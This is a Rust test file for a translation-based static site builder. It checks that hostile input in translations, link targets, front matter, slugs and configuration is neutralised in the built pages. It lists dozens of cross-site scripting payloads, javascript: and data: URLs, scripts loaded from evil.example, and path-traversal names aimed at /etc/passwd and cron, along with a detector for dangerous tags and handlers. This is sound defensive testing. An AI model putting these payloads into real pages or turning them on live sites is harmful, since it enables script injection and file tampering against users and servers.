//! Attacks by way of translations, front matter, file names and `tarjuma.toml`: nothing of them
//! runs, and nothing is written elsewhere.

use tarjuma::project::config::Config;

use crate::build_newsroom::{Publication, build, newsroom, verify_tree};

/// What somebody might put into a translation so that it runs in a reader's browser.
const SCRIPTS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example\"></object>",
    "<embed src=\"https://evil.example\">",
    "<form action=\"https://evil.example\"><input name=p></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>body{display:none}</style>",
    "<b onclick=alert(1)>x</b>",
    "<b onmouseover=\"alert(1)\">x</b>",
    "<b style=\"background:url(javascript:alert(1))\">x</b>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href='vbscript:x'>x</a>",
    "<video poster=javascript:alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "</p><script>alert(1)</script><p>",
];

/// What somebody might put in place of a link's destination.
const DESTINATIONS: [&str; 20] = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "<java\tscript:alert(1)>",
    "< javascript:alert(1)>",
    "&#1;javascript:alert(1)",
    "javascript\\:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,x",
    "file:///etc/passwd",
    "blob:https://daily.example.org/x",
    "filesystem:https://daily.example.org/x",
    "view-source:https://daily.example.org",
    "intent://x#Intent;end",
];

/// What somebody might call an article in its front matter.
const SLUGS: [&str; 20] = [
    "../x",
    "../../etc/cron.d/x",
    "a/../../x",
    "/etc/passwd",
    "..",
    ".",
    ".hidden",
    "a//b",
    "a\\..\\b",
    "C:x",
    "con",
    "NUL.txt",
    "index",
    "404",
    "archive",
    "category/x",
    "a?b",
    "a#b",
    "a%2fb",
    "<script>",
];

/// What somebody might put into a field of the front matter.
const FIELDS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "]]><script>alert(1)</script>",
    "{{ page }}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "{% include 'x' %}<script>alert(1)</script>",
];

/// What somebody might write as the address or folder of the site.
const CONFIGS: [&str; 12] = [
    "[site]\nurl = \"javascript:alert(1)\"\n",
    "[site]\nurl = \"https://x\\\"><script>alert(1)</script>\"\n",
    "[site]\nurl = \"https://a b\"\n",
    "[site]\nurl = \"https://a@b\"\n",
    "[site]\nurl = \"//evil.example\"\n",
    "[site]\nurl = \"file:///etc\"\n",
    "output = \"../site\"\n",
    "output = \"/srv/www\"\n",
    "output = \".\"\n",
    "output = \"a/../..\"\n",
    "output = \"articles\"\n",
    "locales = \"../{locale}.ftl\"\n",
];

const SITE: &str = "[site]\nurl = \"https://daily.example.org\"\n";

/// Builds the newsroom with one Hindi message of an article replaced.
fn with_translation(id: &str, text: &str) -> Publication {
    let bundle = include_str!("../fixtures/build/newsroom/locales/hi/articles/swap.ftl");
    let line = bundle
        .lines()
        .find(|line| line.starts_with(&format!("{id} =")))
        .unwrap_or_else(|| panic!("{id} is there"));
    let escaped = text.replace('{', "{\"{\"}").replace('\n', "\n    ");
    let bundle = bundle.replace(line, &format!("{id} = क {escaped}"));
    let tree = newsroom()
        .with("tarjuma.toml", SITE)
        .with("locales/hi/articles/swap.ftl", bundle);
    build(&tree)
}

/// Says what of a page could run: elements and attributes that no page of ours has.
fn dangers(page: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = page;
    while let Some((_, tag)) = rest.split_once('<') {
        let tag = tag.split('>').next().unwrap_or_default();
        let lower = tag.to_lowercase();
        let name = lower.split([' ', '\n', '/']).next().unwrap_or_default();
        let is_ours = lower == "script type=\"application/ld+json\""
            || lower.starts_with("link rel=\"")
            || lower.starts_with("meta ");
        let is_element = [
            "script", "svg", "iframe", "object", "embed", "form", "button", "base", "style",
            "video", "details", "marquee", "input", "template", "noscript", "math", "link", "meta",
        ]
        .contains(&name);
        let unquoted: String = lower.split('"').step_by(2).collect();
        let has_handler = unquoted
            .split([' ', '/', '\n'])
            .any(|part| part.starts_with("on") && part.contains('='));
        let has_address = [
            "javascript:",
            "vbscript:",
            "=\"data:",
            "file:",
            "blob:",
            "evil.example",
        ]
        .iter()
        .any(|scheme| lower.contains(scheme));
        if !is_ours && (is_element || has_handler || has_address) {
            found.push(tag.to_owned());
        }
        rest = rest.split_once('<').map_or("", |(_, behind)| behind);
    }
    if page.contains("http-equiv") || page.contains("evil.example/x.css") {
        found.push("head".to_owned());
    }
    found
}

fn assert_harmless(publication: &Publication, attack: &str) {
    for (path, bytes) in &publication.files {
        if path.ends_with(".html") {
            let page = String::from_utf8(bytes.clone()).unwrap();
            assert_eq!(dangers(&page), Vec::<String>::new(), "{attack} in {path}");
        }
        assert!(!path.contains(".."), "{attack}: {path}");
    }
}

#[test]
fn html_in_a_translation_runs_nowhere() {
    for attack in SCRIPTS {
        let publication = with_translation("p-0003", attack);
        assert_harmless(&publication, attack);
    }
}

#[test]
fn a_tag_of_the_source_takes_on_no_attributes_and_leads_nowhere_else() {
    let article = "---\nlang: en\ntitle: A\n---\n\nSay <b>it</b> <a href=\"/en/\">here</a>.\n";
    let source = "p-aaaa = Say <b>it</b> <a href=\"/en/\">here</a>.\n";
    for (bold, link) in [
        ("b onclick=\"alert(1)\"", "a href=\"/hi/\""),
        ("b style=\"position:fixed\"", "a href=\"/hi/\""),
        ("b", "a href=\"javascript:alert(1)\""),
        ("b", "a href=\"/hi/\" onfocus=alert(1)"),
        ("b", "a href=\"/hi/\" ping=\"https://evil.example\""),
        ("b", "a href=\"/hi/\""),
    ] {
        let hindi = format!("p-aaaa = <{bold}>इसे</b> <{link}>यहाँ</a> कहें।\n");
        let tree = newsroom()
            .with("articles/a.md", article)
            .with("locales/en/articles/a.ftl", source)
            .with("locales/hi/articles/a.ftl", hindi);
        let publication = build(&tree);
        let is_fit = (bold, link) == ("b", "a href=\"/hi/\"");
        let page = publication.text("hi/a.html");
        assert_eq!(page.contains("कहें"), is_fit, "{bold}, {link}: {page}");
        assert_eq!(publication.text("hi/a.md").contains("कहें"), is_fit);
        assert_eq!(!publication.checks().contains(&"broken-structure"), is_fit);
        assert_harmless(&publication, link);
    }
}

#[test]
fn a_link_of_a_translation_leads_nowhere_it_should_not() {
    let link = |destination: &str| {
        let text = format!("[एजेंसी]({destination}) के मुताबिक एक नर्तकी रवाना हुई।");
        with_translation("p-0001", &text)
    };
    let harmless = link("https://ok.example/");
    let page = harmless.text("hi/swap.html");
    assert!(page.contains("href=\"https://ok.example/\""), "{page}");
    for attack in DESTINATIONS {
        let publication = link(attack);
        assert!(
            publication.checks().contains(&"broken-structure"),
            "{attack}"
        );
        assert_harmless(&publication, attack);
    }
}

#[test]
fn a_name_of_an_article_is_written_nowhere_else() {
    for slug in SLUGS {
        let article = format!("---\nlang: en\ntitle: A\nslug: '{slug}'\n---\n\nText.\n");
        let publication = build(&newsroom().with("articles/a.md", article));
        assert!(publication.checks().contains(&"unfit-slug"), "{slug}");
        assert_harmless(&publication, slug);
        assert!(
            !publication
                .files
                .keys()
                .any(|path| path.ends_with("etc/passwd.html"))
        );
    }
}

#[test]
fn front_matter_is_text() {
    for attack in FIELDS {
        let value = attack.replace('\\', "\\\\").replace('"', "\\\"");
        let fields = [
            "title",
            "description",
            "dateline",
            "category",
            "source",
            "author",
            "correction",
        ];
        let fields: String = fields
            .iter()
            .map(|field| format!("{field}: \"{value}\"\n"))
            .collect();
        let article = format!("---\nlang: en\n{fields}follow: [\"{value}\"]\n---\n\nText.\n");
        let tree = newsroom()
            .with("tarjuma.toml", SITE)
            .with("articles/a.md", article);
        let publication = build(&tree);
        assert_harmless(&publication, attack);
        let verified = verify_tree(&publication.tree());
        let broken = verified.findings.iter().filter(|finding| {
            matches!(
                finding.check,
                "feed" | "sitemap" | "linked-data" | "encoding"
            )
        });
        assert_eq!(broken.count(), 0, "{attack}: {:?}", verified.findings);
    }
}

#[test]
fn a_configuration_that_reaches_out_is_refused() {
    for config in CONFIGS {
        let error = Config::parse(config).expect_err(config).to_string();
        assert!(!error.contains("unknown"), "{config}: {error}");
    }
}
